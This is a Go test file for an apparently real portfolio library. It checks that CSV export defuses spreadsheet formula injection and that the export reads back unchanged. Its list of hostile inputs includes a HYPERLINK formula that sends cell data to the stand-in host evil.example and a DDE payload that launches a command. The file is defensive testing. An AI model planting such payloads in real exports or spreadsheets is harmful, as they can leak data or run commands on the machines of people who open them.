package portfolio_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/finkit/finkit/portfolio"
)

// TestWriteCSVNeutralisesFormulas: no text cell of an export begins with
// = + - @ tab or CR (a spreadsheet would run it as a formula), numbers stay
// numbers (a negative amount is written as is), and reading the export back
// gives exactly what was written, including text that began with an
// apostrophe.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	day := time.Date(2030, 1, 2, 0, 0, 0, 0, time.UTC)
	hostile := []string{`=HYPERLINK("http://evil.example/?leak="&C2&D2,"x")`, "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1", "\tx", "\rx",
		"'=already", "''=twice", "'plain", "ok", "a=b", ""}
	var txs []portfolio.Transaction
	for i, s := range hostile {
		sym := "=cmd|x"
		if i%2 == 1 {
			sym = "@A" + strings.Repeat("B", i)
		}
		txs = append(txs, portfolio.Transaction{ID: "-id" + s, Account: "+acct", Kind: portfolio.TxBuy, Time: day.Add(time.Duration(i) * time.Hour),
			Symbol: sym, Quantity: decimal.NewFromInt(1), Price: decimal.RequireFromString("-2.50"), Currency: "USD", Note: s})
	}
	var buf bytes.Buffer
	require.NoError(t, portfolio.WriteCSV(&buf, txs))
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && cell != "-2.5" && cell != "-2.50" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q", cell)
			}
		}
		assert.Contains(t, rec, "-2.50", "numbers are not neutralised")
	}
	back, err := portfolio.ReadCSV(bytes.NewReader(buf.Bytes()))
	require.NoError(t, err)
	require.Len(t, back, len(txs))
	for i := range txs {
		want := txs[i]
		assert.True(t, portfolio.SameTransaction(want, back[i]), "%d: %+v\n%+v", i, want, back[i])
	}
}
